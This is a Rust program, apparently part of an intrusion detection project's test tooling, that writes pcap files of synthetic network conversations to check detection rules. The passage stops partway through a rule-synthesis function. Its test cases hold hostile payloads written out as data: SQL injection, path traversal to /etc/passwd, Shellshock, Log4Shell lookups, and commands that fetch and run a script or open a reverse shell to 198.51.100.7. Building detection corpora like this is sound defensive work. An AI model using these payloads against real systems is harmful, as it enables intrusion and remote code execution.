//! Writes eastwall's IDS conformance corpus: deterministic pcaps of TCP conversations with
//! proper handshakes, sequence and acknowledgement numbers, and FINs.
//!
//! ```text
//! cargo run -p eastwall-integration --bin ids-corpus -- ids/testdata/conformance [ET_OPEN_DIR]
//! ```
//!
//! Hand-written cases: realistic attacks over HTTP/1.1 (SQL injection, path traversal, shell
//! commands, scanners' user agents, exploit URIs), responses that give an attack away, the
//! same conversations cut into 1-7 byte segments, keep-alive connections, raw TCP payloads for
//! `local.rules`, TLS ClientHellos, TLS 1.2 server certificates, compressed HTTP bodies (and
//! their evasions: mislabelled, double, truncated, plain with a label), HTTP/1 exactly as
//! sent (header spacing and case, LF-only lines, pipelining, chunked bodies, HEAD and 100
//! responses) and DNS-over-TCP queries. With the ET Open directory, also
//! one conversation per sampled ET rule, built from the rule's own contents (`et_*.pcap`), so
//! that agreement is measured on rules that fire. Every flow has its own client port.
//!
//! `ids-corpus bench BENCH.pcap EMPTY.pcap [REPEAT] [web|bulk|mixed]` writes the scan benchmark's
//! traffic of that shape (`ids/benches/traffic/mod.rs`, REPEAT times) for Suricata, and a pcap
//! with one empty connection to measure Suricata's start-up; it prints the payload bytes
//! written.

use eastwall_ids::{
    Rule, parse_rules,
    rule::{Buffer, MatchItem},
};
use eastwall_wire::sniff::ClientHello;
use etherparse::PacketBuilder;
use pcap_file::pcap::{PcapPacket, PcapWriter};
use std::net::Ipv4Addr;
use std::path::{Path, PathBuf};
use std::time::Duration;

#[path = "../../benches/traffic/mod.rs"]
#[allow(dead_code)]
mod traffic;

use traffic::{
    Session, certificate, client_hello, dns_query, dns_response, server_flight, server_flight_of,
    smtp_session,
};

const CLIENT_MAC: [u8; 6] = [0x02, 0, 0, 0, 0, 1];
const SERVER_MAC: [u8; 6] = [0x02, 0, 0, 0, 0, 2];
const CLIENT_IP: Ipv4Addr = Ipv4Addr::new(10, 1, 0, 10);
const SERVER_IP: Ipv4Addr = Ipv4Addr::new(10, 2, 0, 20);

/// Packets of one pcap file.
struct Pcap {
    packets: Vec<(Duration, Vec<u8>)>,
    clock: Duration,
}

/// Client ports are unique across the whole corpus, so flows can be told apart.
struct Ports(u16);

impl Ports {
    fn next(&mut self) -> u16 {
        self.0 += 1;
        self.0
    }
}

/// One TCP connection being written.
struct Conv<'a> {
    pcap: &'a mut Pcap,
    cport: u16,
    sport: u16,
    /// Next sequence number of the client and of the server.
    seq: [u32; 2],
}

impl Pcap {
    fn new() -> Self {
        Pcap {
            packets: Vec::new(),
            clock: Duration::from_secs(1_700_000_000),
        }
    }

    fn write(&self, path: &Path) -> std::io::Result<()> {
        let file = std::fs::File::create(path)?;
        let mut w = PcapWriter::new(file).map_err(std::io::Error::other)?;
        for (ts, data) in &self.packets {
            w.write_packet(&PcapPacket::new(*ts, data.len() as u32, data))
                .map_err(std::io::Error::other)?;
        }
        Ok(())
    }

    #[allow(clippy::too_many_arguments)]
    fn packet(
        &mut self,
        from_client: bool,
        cport: u16,
        sport: u16,
        seq: u32,
        ack: Option<u32>,
        flags: &str,
        payload: &[u8],
    ) {
        let (smac, dmac, sip, dip, sp, dp) = if from_client {
            (CLIENT_MAC, SERVER_MAC, CLIENT_IP, SERVER_IP, cport, sport)
        } else {
            (SERVER_MAC, CLIENT_MAC, SERVER_IP, CLIENT_IP, sport, cport)
        };
        let mut b = PacketBuilder::ethernet2(smac, dmac)
            .ipv4(sip.octets(), dip.octets(), 64)
            .tcp(sp, dp, seq, 64240);
        if let Some(a) = ack {
            b = b.ack(a);
        }
        if flags.contains('S') {
            b = b.syn();
        }
        if flags.contains('F') {
            b = b.fin();
        }
        if flags.contains('P') {
            b = b.psh();
        }
        let mut out = Vec::with_capacity(b.size(payload.len()));
        b.write(&mut out, payload).expect("packet builds");
        self.clock += Duration::from_micros(250);
        self.packets.push((self.clock, out));
    }

    /// One UDP datagram between the client's `cport` and the server's `sport`.
    fn datagram(&mut self, from_client: bool, cport: u16, sport: u16, payload: &[u8]) {
        let (smac, dmac, sip, dip, sp, dp) = if from_client {
            (CLIENT_MAC, SERVER_MAC, CLIENT_IP, SERVER_IP, cport, sport)
        } else {
            (SERVER_MAC, CLIENT_MAC, SERVER_IP, CLIENT_IP, sport, cport)
        };
        let b = PacketBuilder::ethernet2(smac, dmac)
            .ipv4(sip.octets(), dip.octets(), 64)
            .udp(sp, dp);
        let mut out = Vec::with_capacity(b.size(payload.len()));
        b.write(&mut out, payload).expect("packet builds");
        self.clock += Duration::from_micros(250);
        self.packets.push((self.clock, out));
    }

    /// One TCP conversation to `port`: each turn sent by its side in segments of `sizes`,
    /// then closed.
    fn session(
        &mut self,
        ports: &mut Ports,
        port: u16,
        turns: &[(bool, Vec<u8>)],
        sizes: &[usize],
    ) {
        let mut c = self.conv(ports, port);
        for (from_client, data) in turns {
            c.send(*from_client, data, sizes);
        }
        c.close();
    }

    fn conv(&mut self, ports: &mut Ports, sport: u16) -> Conv<'_> {
        let cport = ports.next();
        let isn = [
            u32::from(cport).wrapping_mul(2_654_435_761),
            0x4000_0000 ^ u32::from(cport),
        ];
        self.packet(true, cport, sport, isn[0], None, "S", &[]);
        self.packet(false, cport, sport, isn[1], Some(isn[0] + 1), "S", &[]);
        self.packet(true, cport, sport, isn[0] + 1, Some(isn[1] + 1), "", &[]);
        Conv {
            pcap: self,
            cport,
            sport,
            seq: [isn[0] + 1, isn[1] + 1],
        }
    }
}

impl Conv<'_> {
    /// Send `data` from one side in segments of the given sizes (cycled), each acknowledged.
    fn send(&mut self, from_client: bool, data: &[u8], sizes: &[usize]) {
        let (me, peer) = if from_client { (0, 1) } else { (1, 0) };
        let mut off = 0;
        let mut k = 0;
        while off < data.len() {
            let n = sizes[k % sizes.len()].max(1).min(data.len() - off);
            k += 1;
            let seg = &data[off..off + n];
            self.pcap.packet(
                from_client,
                self.cport,
                self.sport,
                self.seq[me],
                Some(self.seq[peer]),
                "P",
                seg,
            );
            self.seq[me] = self.seq[me].wrapping_add(n as u32);
            off += n;
            self.pcap.packet(
                !from_client,
                self.cport,
                self.sport,
                self.seq[peer],
                Some(self.seq[me]),
                "",
                &[],
            );
        }
    }

    fn close(self) {
        let (c, s) = (self.seq[0], self.seq[1]);
        self.pcap
            .packet(true, self.cport, self.sport, c, Some(s), "F", &[]);
        self.pcap
            .packet(false, self.cport, self.sport, s, Some(c + 1), "F", &[]);
        self.pcap
            .packet(true, self.cport, self.sport, c + 1, Some(s + 1), "", &[]);
    }
}

/// Segment sizes: whole messages (up to an MSS) or tiny pieces.
const WHOLE: &[usize] = &[1448];
const TINY: &[usize] = &[1, 3, 7, 2, 5, 1, 4, 6];

fn request(method: &str, target: &str, headers: &[(&str, &str)], body: &[u8]) -> Vec<u8> {
    let mut out = format!("{method} {target} HTTP/1.1\r\n").into_bytes();
    let has_host = headers.iter().any(|(n, _)| n.eq_ignore_ascii_case("host"));
    if !has_host {
        out.extend_from_slice(b"Host: shop.internal.example\r\n");
    }
    for (n, v) in headers {
        out.extend_from_slice(format!("{n}: {v}\r\n").as_bytes());
    }
    if !body.is_empty() {
        out.extend_from_slice(format!("Content-Length: {}\r\n", body.len()).as_bytes());
    }
    out.extend_from_slice(b"\r\n");
    out.extend_from_slice(body);
    out
}

fn response(status: &str, headers: &[(&str, &str)], body: &[u8]) -> Vec<u8> {
    let mut out = format!("HTTP/1.1 {status}\r\n").into_bytes();
    out.extend_from_slice(b"Date: Tue, 14 Nov 2023 22:13:20 GMT\r\n");
    for (n, v) in headers {
        out.extend_from_slice(format!("{n}: {v}\r\n").as_bytes());
    }
    out.extend_from_slice(format!("Content-Length: {}\r\n\r\n", body.len()).as_bytes());
    out.extend_from_slice(body);
    out
}

const UA: &str = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/119.0 Safari/537.36";

/// Realistic attack (and benign) exchanges: (request, response).
fn web_exchanges() -> Vec<(Vec<u8>, Vec<u8>)> {
    let ok = |body: &str| {
        response(
            "200 OK",
            &[("Content-Type", "text/html"), ("Server", "Apache/2.4.57")],
            body.as_bytes(),
        )
    };
    let not_found = response(
        "404 Not Found",
        &[("Content-Type", "text/html")],
        b"<h1>Not Found</h1>",
    );
    let ua = [("User-Agent", UA), ("Accept", "*/*")];
    let form = [("Content-Type", "application/x-www-form-urlencoded")];
    // Base64 payloads: padded, in the URI, and unpadded at the end or before `&`.
    let base64_posts = [
        "data=Y3VybCBodHRwOi8vMjAzLjAuMTEzLjkveCB8IC9iaW4vc2g=",
        "x=cnVuIGV2aWwhIQ",
        "x=cnVuIGV2aWwhIQ&y=1",
    ];
    let mut exchanges: Vec<(Vec<u8>, Vec<u8>)> = base64_posts
        .iter()
        .map(|body| (request("POST", "/submit", &form, body.as_bytes()), ok("ok")))
        .collect();
    exchanges.push((
        request(
            "GET",
            "/search?q=d2dldCBodHRwOi8vZXZpbC5leGFtcGxlLw==",
            &ua,
            b"",
        ),
        ok("none"),
    ));
    exchanges.extend(vec![
        // SQL injection.
        (request("GET", "/products.php?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--%20-", &ua, b""), ok("<table></table>")),
        (request("GET", "/item.php?id=-1+UNION+ALL+SELECT+NULL,NULL,CONCAT(0x7170767071,user(),0x71766b7071)--+", &ua, b""), ok("qpvpq root@localhost qvkq")),
        (request("GET", "/news.php?id=1'+AND+SLEEP(5)--+", &ua, b""), ok("You have an error in your SQL syntax; check the manual that corresponds to your MySQL server version")),
        (request("POST", "/login.php", &[("User-Agent", UA), ("Content-Type", "application/x-www-form-urlencoded")], b"user=admin'--&pass=x' OR '1'='1"), ok("Welcome admin")),
        (request("GET", "/search?q=1;DROP%20TABLE%20users", &ua, b""), not_found.clone()),
        (request("GET", "/index.php?id=1%20AND%201=1%20UNION%20SELECT%20@@version", &ua, b""), ok("5.7.44")),
        // Path traversal.
        (request("GET", "/../../../../etc/passwd", &ua, b""), ok("root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n")),
        (request("GET", "/static/..%2f..%2f..%2f..%2fetc%2fpasswd", &ua, b""), not_found.clone()),
        (request("GET", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd", &ua, b""), ok("root:x:0:0:root:/root:/bin/bash\n")),
        (request("GET", "/download.php?file=../../../../../../windows/win.ini", &ua, b""), ok("; for 16-bit app support\n[fonts]\n")),
        (request("GET", "/index.php?page=php://filter/convert.base64-encode/resource=index.php", &ua, b""), ok("PD9waHA=")),
        (request("GET", "/view?file=....//....//....//etc/shadow", &ua, b""), not_found.clone()),
        // Shell commands.
        (request("GET", "/cgi-bin/status", &[("User-Agent", "() { :; }; /bin/bash -c \"cat /etc/passwd\""), ("Accept", "*/*")], b""), ok("ok")),
        (request("POST", "/cgi-bin/ping.cgi", &[("User-Agent", "curl/7.88.1"), ("Content-Type", "application/x-www-form-urlencoded")], b"ip=127.0.0.1;wget http://198.51.100.7/x.sh -O /tmp/x.sh;chmod +x /tmp/x.sh;sh /tmp/x.sh"), ok("PING")),
        (request("GET", "/diag.php?cmd=;id", &ua, b""), ok("uid=0(root) gid=0(root) groups=0(root)")),
        (request("GET", "/shell.php?c=whoami", &ua, b""), ok("www-data")),
        (request("POST", "/api/run", &[("User-Agent", "python-requests/2.31.0"), ("Content-Type", "application/json")], b"{\"cmd\":\"bash -i >& /dev/tcp/198.51.100.7/4444 0>&1\"}"), ok("{}")),
        (request("GET", "/", &[("User-Agent", UA), ("X-Api-Version", "${jndi:ldap://198.51.100.7:1389/Exploit}")], b""), ok("<html></html>")),
        (request("GET", "/?x=${jndi:rmi://198.51.100.7/a}", &[("User-Agent", "${jndi:ldap://198.51.100.7/ua}")], b""), ok("<html></html>")),
        // Known exploit URIs.
        (request("POST", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", &ua, b"<?php echo md5('phpunit'); ?>"), ok("")),
        (request("GET", "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=HelloThinkPHP", &ua, b""), ok("")),
        (request("GET", "/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id>`wget+-O-+http://198.51.100.7/t.sh|sh`)", &ua, b""), ok("")),
        (request("POST", "/boaform/admin/formLogin", &[("User-Agent", "Mozilla/5.0"), ("Content-Type", "application/x-www-form-urlencoded")], b"username=admin&psd=Feefifofum"), ok("")),
        (request("GET", "/HNAP1/", &[("User-Agent", UA), ("SOAPAction", "\"http://purenetworks.com/HNAP1/GetDeviceSettings\"")], b""), ok("")),
        (request("GET", "/.git/config", &ua, b""), ok("[core]\n\trepositoryformatversion = 0\n")),
        (request("GET", "/.env", &ua, b""), ok("DB_PASSWORD=secret\nAPP_KEY=base64:xyz\n")),
        (request("GET", "/actuator/env", &ua, b""), ok("{\"activeProfiles\":[]}")),
        (request("GET", "/solr/admin/cores?action=CREATE&name=x&instanceDir=x", &ua, b""), ok("")),
        (request("POST", "/struts2-showcase/index.action", &[("User-Agent", UA), ("Content-Type", "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#cmd='id')}")], b""), ok("")),
        (request("POST", "/", &[("User-Agent", UA), ("Content-Type", "application/x-www-form-urlencoded")], b"class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di"), ok("")),
        (request("GET", "/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php", &ua, b""), ok("")),
        (request("GET", "/phpmyadmin/index.php", &ua, b""), ok("phpMyAdmin")),
        (request("GET", "/manager/html", &[("User-Agent", UA), ("Authorization", "Basic dG9tY2F0OnRvbWNhdA==")], b""), ok("Tomcat Web Application Manager")),
        (request("GET", "/owa/auth/x.js", &[("User-Agent", UA), ("Cookie", "X-AnonResource=true; X-AnonResource-Backend=localhost/ecp/default.flt?~3; X-BEResource=localhost/owa/auth/logon.aspx?~3")], b""), ok("")),
        // Scanners.
        (request("GET", "/", &[("User-Agent", "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)")], b""), ok("")),
        (request("GET", "/index.php?id=1", &[("User-Agent", "sqlmap/1.7.2#stable (https://sqlmap.org)")], b""), ok("")),
        (request("GET", "/nice%20ports%2C/Tri%6Eity.txt%2ebak", &[("User-Agent", "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)")], b""), not_found.clone()),
        (request("GET", "/", &[("User-Agent", "masscan/1.3 (https://github.com/robertdavidgraham/masscan)")], b""), ok("")),
        (request("GET", "/w00tw00t.at.blackhats.romanian.anti-sec:)", &[("User-Agent", "ZmEu")], b""), not_found.clone()),
        (request("GET", "/", &[("User-Agent", "Mozilla/5.0 zgrab/0.x")], b""), ok("")),
        (request("GET", "/admin/", &[("User-Agent", "Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))")], b""), not_found.clone()),
        (request("GET", "/", &[("User-Agent", "Go-http-client/1.1")], b""), ok("")),
        // Responses that give an attack away.
        (request("GET", "/uploads/", &ua, b""), ok("<html><head><title>Index of /uploads</title></head><body><h1>Index of /uploads</h1>")),
        (request("GET", "/tmp/c99.php", &ua, b""), ok("<title>c99shell</title> Safe-mode: OFF (not secure) uname -a: Linux")),
        (request("GET", "/status", &ua, b""), ok("Microsoft OLE DB Provider for ODBC Drivers error '80040e14'")),
        // Benign.
        (request("GET", "/index.html", &ua, b""), ok("<html><body>Welcome</body></html>")),
        (request("GET", "/api/v1/orders?limit=10&offset=20", &[("User-Agent", UA), ("Accept", "application/json")], b""), response("200 OK", &[("Content-Type", "application/json")], b"{\"orders\":[]}")),
        (request("POST", "/api/v1/orders", &[("User-Agent", UA), ("Content-Type", "application/json")], b"{\"item\":42,\"qty\":1}"), response("201 Created", &[("Content-Type", "application/json"), ("Location", "/api/v1/orders/7")], b"{\"id\":7}")),
    ]);
    exchanges
}

/// Hand-written rules' traffic (see `local.rules`): raw TCP both ways.
/// A raw TCP conversation: server port, then (from the client?, bytes) messages.
type RawConversation = (u16, Vec<(bool, Vec<u8>)>);

fn raw_exchanges() -> Vec<RawConversation> {
    vec![
        (
            9000,
            vec![
                (true, b"USER admin\r\n".to_vec()),
                (false, b"331 need password\r\n".to_vec()),
                (true, b"PASS hunter2\r\n".to_vec()),
                (false, b"230 ok\r\n".to_vec()),
            ],
        ),
        (
            9000,
            vec![
                (true, b"USER guest\r\n".to_vec()),
                (false, b"331 need password\r\n".to_vec()),
                (true, b"PASS secret\r\n".to_vec()),
                (false, b"530 denied\r\n".to_vec()),
            ],
        ),
        (
            9001,
            vec![
                (true, b"\x00\x00\x00\x10CMD exec /bin/sh -c id\x00".to_vec()),
                (false, b"uid=0(root) gid=0(root)\n".to_vec()),
            ],
        ),
        (
            9001,
            vec![
                (true, b"\x00\x00\x00\x04PING".to_vec()),
                (false, b"\x00\x00\x00\x04PONG".to_vec()),
            ],
        ),
        (
            9002,
            vec![
                (true, b"LOGIN alice\n".to_vec()),
                (false, b"OK welcome\n".to_vec()),
                (true, b"GETFILE /etc/shadow\n".to_vec()),
                (false, b"DATA root:$6$abc".to_vec()),
            ],
        ),
        (
            9002,
            vec![
                (true, b"GETFILE /etc/shadow\n".to_vec()),
                (false, b"ERR login first\n".to_vec()),
            ],
        ),
        (
            9003,
            vec![
                (true, b"BEACON id=8f3a2c91 v=2\n".to_vec()),
                (false, b"TASK sleep 60\n".to_vec()),
            ],
        ),
        (
            9003,
            vec![(
                true,
                [b"EXFIL ".to_vec(), vec![b'A'; 3000], b" END".to_vec()].concat(),
            )],
        ),
        (
            9004,
            vec![
                (true, b"HELLO\x05\x01\x02\x03\x04\x05rest".to_vec()),
                (false, b"BYE".to_vec()),
            ],
        ),
        (
            9004,
            vec![
                (true, b"HELLO\x09\x01\x02".to_vec()),
                (false, b"BYE".to_vec()),
            ],
        ),
        (
            80,
            vec![
                (
                    true,
                    b"GET /x HTTP/1.0\r\nX-Ratproxy-Loop: 1\r\n\r\n".to_vec(),
                ),
                (false, b"HTTP/1.0 200 OK\r\n\r\nok".to_vec()),
            ],
        ),
    ]
}

/// HTTP/1 exactly as sent, for the heads as received and the framing: odd spacing, tabs,
/// header names in any case, LF-only lines, repeated headers, pipelined requests, chunked
/// bodies with extensions and trailers, a body after a HEAD response's length, an interim
/// 100 response: (request bytes, response bytes) per connection.
fn raw_head_exchanges() -> Vec<(Vec<u8>, Vec<u8>)> {
    let ok = |body: &str| {
        format!(
            "HTTP/1.1 200 OK\r\nContent-Length: {}\r\nserver :  nginx\r\nX-Frame-Options:SAMEORIGIN\r\n\r\n{body}",
            body.len()
        )
    };
    let cases: Vec<(String, String)> = vec![
        (
            "GET /h1 HTTP/1.1\r\nHost: shop.example\r\nuser-AGENT:\tcurl/8.5  \r\nX-Spaced:   v   \r\n\r\n".into(),
            ok("hello"),
        ),
        (
            "GET /h2 HTTP/1.1\r\nHost:shop.example\r\nX-Dup: 1\r\nX-Dup: 2\r\nACCEPT: */*\r\n\r\n".into(),
            ok("dup"),
        ),
        (
            "GET /h3 HTTP/1.1\nHost: shop.example\nX-Lf: only\n\n".into(),
            "HTTP/1.1 200 OK\nContent-Length: 2\nX-Lf: only\n\nok".into(),
        ),
        (
            // Pipelined, the second with a chunked body carrying the attack.
            "GET /h4 HTTP/1.1\r\nHost: shop.example\r\n\r\n\
             POST /h4/upload HTTP/1.1\r\nHost: shop.example\r\nTransfer-Encoding: chunked\r\n\r\n\
             5;ext=1\r\ncmd=w\r\n6\r\nhoami \r\n0\r\nX-Trailer: t\r\n\r\n"
                .into(),
            format!("{}{}", ok("first"), ok("second")),
        ),
        (
            // HEAD: the response says a length but sends no body; the next response follows.
            "HEAD /h5 HTTP/1.1\r\nHost: shop.example\r\n\r\nGET /h5/next HTTP/1.1\r\nHost: shop.example\r\n\r\n"
                .into(),
            format!(
                "HTTP/1.1 200 OK\r\nContent-Length: 9999\r\nX-Head: yes\r\n\r\n{}",
                ok("after head")
            ),
        ),
        (
            "POST /h6 HTTP/1.1\r\nHost: shop.example\r\nExpect: 100-continue\r\nContent-Length: 14\r\n\r\nuser=admin&x=1"
                .into(),
            format!("HTTP/1.1 100 Continue\r\n\r\n{}", ok("posted")),
        ),
        (
            // Transfer-Encoding wins over Content-Length (the smuggling shape).
            "POST /h7 HTTP/1.1\r\nHost: shop.example\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n\
             b\r\nsmuggled=ok\r\n0\r\n\r\nGET /h7/after HTTP/1.1\r\nHost: shop.example\r\n\r\n"
                .into(),
            format!("{}{}", ok("one"), ok("two")),
        ),
        (
            "GET /h8 HTTP/1.1\r\nHost: shop.example\r\n\r\n".into(),
            "HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\nSERVER: Apache\r\n\r\n4\r\nroot\r\n7\r\n:x:0:0:\r\n0\r\n\r\n"
                .into(),
        ),
    ];
    cases
        .into_iter()
        .map(|(a, b)| (a.into_bytes(), b.into_bytes()))
        .collect()
}

/// Bodies in content codings, and the evasions around them: (request, response).
fn compressed_exchanges() -> Vec<(Vec<u8>, Vec<u8>)> {
    use std::io::Write;
    fn gzip(b: &[u8]) -> Vec<u8> {
        let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
        e.write_all(b).expect("in memory");
        e.finish().expect("in memory")
    }
    fn zlib(b: &[u8]) -> Vec<u8> {
        let mut e = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
        e.write_all(b).expect("in memory");
        e.finish().expect("in memory")
    }
    fn raw(b: &[u8]) -> Vec<u8> {
        let mut e = flate2::write::DeflateEncoder::new(Vec::new(), flate2::Compression::default());
        e.write_all(b).expect("in memory");
        e.finish().expect("in memory")
    }
    let page: Vec<u8> = [
        &b"<html><head><title>shop</title></head><body>"[..],
        &b"x".repeat(3000),
        b"<script>evil.payload()</script></body></html>",
    ]
    .concat();
    let ok = || request("GET", "/index.html", &[("User-Agent", UA)], b"");
    let mut out = Vec::new();
    let truncated = {
        let g = gzip(&page);
        g[..g.len() * 3 / 4].to_vec()
    };
    for (coding, body) in [
        ("gzip", gzip(&page)),
        ("x-gzip", gzip(&page)),
        ("deflate", zlib(&page)),
        ("deflate", raw(&page)),
        ("deflate", gzip(&page)),
        ("gzip", zlib(&page)),
        ("gzip, gzip", gzip(&gzip(&page))),
        ("gzip", truncated),
        ("gzip", page.clone()),
        ("identity", page.clone()),
    ] {
        let resp = response(
            "200 OK",
            &[("Content-Type", "text/html"), ("Content-Encoding", coding)],
            &body,
        );
        out.push((ok(), resp));
    }
    // A request body: gzip, and plain with a gzip label.
    let form = b"user=alice&cmd=wget http://203.0.113.9/x.sh&x=1".to_vec();
    for (coding, body) in [("gzip", gzip(&form)), ("gzip", form.clone())] {
        let req = request(
            "POST",
            "/upload",
            &[
                ("Content-Type", "application/x-www-form-urlencoded"),
                ("Content-Encoding", coding),
            ],
            &body,
        );
        out.push((req, response("200 OK", &[], b"ok")));
    }
    out
}

/// Clients of several shapes for the fingerprint rules: Chrome with GREASE (the JA4
/// example), Firefox, an old TLS 1.0 client without extensions, and one without SNI; each
/// with its server: TLS 1.3, 1.2 with the JA3S example's extensions, 1.0, 1.2.
fn fingerprint_conversations(cert: &[u8]) -> Vec<(ClientHello, Vec<u8>)> {
    let chrome = ClientHello {
        legacy_version: 0x0303,
        supported_versions: vec![0x2a2a, 0x0304, 0x0303],
        sni: Some("example.com".into()),
        sni_raw: None,
        alpn: vec!["h2".into(), "http/1.1".into()],
        cipher_suites: vec![
            0x0a0a, 0x1301, 0x1302, 0x1303, 0xc02b, 0xc02f, 0xc02c, 0xc030, 0xcca9, 0xcca8, 0xc013,
            0xc014, 0x009c, 0x009d, 0x002f, 0x0035,
        ],
        extensions: vec![
            0x1a1a, 0x0000, 0x0017, 0xff01, 0x000a, 0x000b, 0x0023, 0x0010, 0x0005, 0x000d, 0x0012,
            0x0033, 0x002d, 0x002b, 0x001b, 0x4469, 0x0015, 0x3a3a,
        ],
        supported_groups: vec![0x4a4a, 0x001d, 0x0017, 0x0018],
        signature_algorithms: vec![
            0x0403, 0x0804, 0x0401, 0x0503, 0x0805, 0x0501, 0x0806, 0x0601,
        ],
        ec_point_formats: vec![0],
    };
    let firefox = ClientHello {
        legacy_version: 0x0303,
        supported_versions: vec![0x0304, 0x0303],
        sni: Some("firefox.example".into()),
        sni_raw: None,
        alpn: vec!["h2".into(), "http/1.1".into()],
        cipher_suites: vec![
            0x1301, 0x1303, 0x1302, 0xc02b, 0xc02f, 0xcca9, 0xcca8, 0xc02c, 0xc030, 0xc00a, 0xc009,
            0xc013, 0xc014, 0x009c, 0x009d, 0x002f, 0x0035,
        ],
        extensions: vec![0, 23, 65281, 10, 11, 35, 16, 5, 34, 51, 43, 13, 45, 28, 21],
        supported_groups: vec![29, 23, 24, 25, 256, 257],
        signature_algorithms: vec![
            0x0403, 0x0503, 0x0603, 0x0804, 0x0805, 0x0806, 0x0401, 0x0501, 0x0601, 0x0203, 0x0201,
        ],
        ec_point_formats: vec![0],
    };
    let old = ClientHello {
        legacy_version: 0x0301,
        cipher_suites: vec![0x002f, 0x0035, 0x000a],
        ..ClientHello::default()
    };
    let no_sni = ClientHello {
        legacy_version: 0x0303,
        alpn: vec!["http/1.1".into()],
        cipher_suites: vec![0xc02f, 0xc030],
        extensions: vec![10, 11, 13, 16, 23],
        supported_groups: vec![29],
        signature_algorithms: vec![0x0401],
        ec_point_formats: vec![0],
        ..ClientHello::default()
    };
    let mut key_share = vec![0x00, 0x1d, 0x00, 0x20];
    key_share.extend([0x42; 32]);
    let certs = [cert.to_vec()];
    vec![
        (
            chrome,
            server_flight_of(0x0303, 0x1301, &[(43, vec![3, 4]), (51, key_share)], &[], 1),
        ),
        (
            firefox,
            server_flight_of(
                0x0303,
                0xc02f,
                &[
                    (0xff01, vec![0]),
                    (0, vec![]),
                    (11, vec![1, 0]),
                    (35, vec![]),
                    (23, vec![]),
                ],
                &certs,
                2,
            ),
        ),
        (old, server_flight_of(0x0301, 0x002f, &[], &certs, 3)),
        (
            no_sni,
            server_flight_of(
                0x0303,
                0xc030,
                &[(0xff01, vec![0]), (11, vec![1, 0])],
                &certs,
                4,
            ),
        ),
    ]
}

/// Non-negated contents of one buffer of a rule.
fn contents(rule: &Rule, buffer: Buffer) -> Vec<Vec<u8>> {
    rule.buffers
        .iter()
        .filter(|b| b.buffer == buffer && b.transforms.is_empty())
        .flat_map(|b| b.items.iter())
        .filter_map(|i| match i {
            MatchItem::Content(c) if !c.negated => Some(c.pattern.clone()),
            _ => None,
        })
        .collect()
}

fn printable(b: &[u8]) -> bool {
    b.iter().all(|&c| (0x20..0x7f).contains(&c))
}

/// Percent-encode what cannot stand in a request target.
fn target_safe(b: &[u8]) -> String {
    let mut s = String::new();
    for &c in b {
        if c > 0x20 && c < 0x7f && c != b'#' {
            s.push(c as char);
        } else {
            s.push_str(&format!("%{c:02X}"));
        }
    }
    s
}

/// A request and response built from an HTTP rule's contents, or `None` when its contents
/// cannot be placed in an HTTP/1.1 message.
fn synthesize(rule: &Rule) -> Option<(Vec<u8>, Vec<u8>)> {
    let joined = |b: Buffer| contents(rule, b).concat();
    let method_c = contents(rule, Buffer::HttpMethod);
    let method = match method_c.first() {
        Some(m) if m.iter().all(u8::is_ascii_uppercase) && !m.is_empty() => {
            String::from_utf8_lossy(m).into_owned()
        }
        Some(_) => return None,
        None => "GET".to_string(),
    };
    let mut target = Vec::new();
    for c in contents(rule, Buffer::HttpUri)
        .into_iter()
        .chain(contents(rule, Buffer::HttpUriRaw))
        .chain(contents(rule, Buffer::HttpStart))
    {
        if target.is_empty() && !c.starts_with(b"/") {
            target.push(b'/');
        }
        target.extend_from_slice(&c);
    }
    if target.is_empty() {
        target.extend_from_slice(b"/index.html");
    }
    let mut headers: Vec<(String, String)> = Vec::new();
    fn push(headers: &mut Vec<(String, String)>, name: &str, v: Vec<u8>) -> Option<()> {
        if v.is_empty() {
            return Some(());
        }
        if !printable(&v) {
            return None;
        }
        headers.push((name.to_string(), String::from_utf8_lossy(&v).into_owned()));
        Some(())
    }
    let host = joined(Buffer::HttpHost);
    push(
        &mut headers,
        "Host",
        if host.is_empty() {
            b"www.example.com".to_vec()
        } else {
            host
        },
    )?;
    let ua = joined(Buffer::HttpUserAgent);
    push(
        &mut headers,
        "User-Agent",
        if ua.is_empty() {
            UA.as_bytes().to_vec()
        } else {
            ua
        },
    )?;
    push(&mut headers, "Cookie", joined(Buffer::HttpCookie))?;
    push(&mut headers, "Referer", joined(Buffer::HttpReferer))?;
    push(&mut headers, "Accept", joined(Buffer::HttpAccept))?;
    push(
        &mut headers,
        "Accept-Encoding",
        joined(Buffer::HttpAcceptEnc),
    )?;
    push(
        &mut headers,
        "Accept-Language",
        joined(Buffer::HttpAcceptLang),
    )?;
    let to_client = rule.flow.dir == Some(eastwall_ids::Dir::ToClient);
    let mut resp_headers: Vec<(String, String)> = vec![("Server".into(), "nginx".into())];
    // Header contents: whole `Name: value` lines stay lines, the rest goes in one header.
    let mut loose = Vec::new();
    for c in contents(rule, Buffer::HttpHeader) {
        let text = String::from_utf8_lossy(&c).into_owned();
        let mut placed = false;
        for line in text.split("\r\n").filter(|l| !l.is_empty()) {
            if !printable(line.as_bytes()) {
                return None;
            }
            if let Some((n, v)) = line.split_once(": ")
                && !n.is_empty()
                && n.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'-')
            {
                let h = (n.to_string(), v.to_string());
                if to_client {
                    resp_headers.push(h)
                } else {
                    headers.push(h)
                }
                placed = true;
                continue;
            }
            loose.push(line.to_string());
            placed = true;
        }
        if !placed && !c.is_empty() {
            return None;
        }
    }
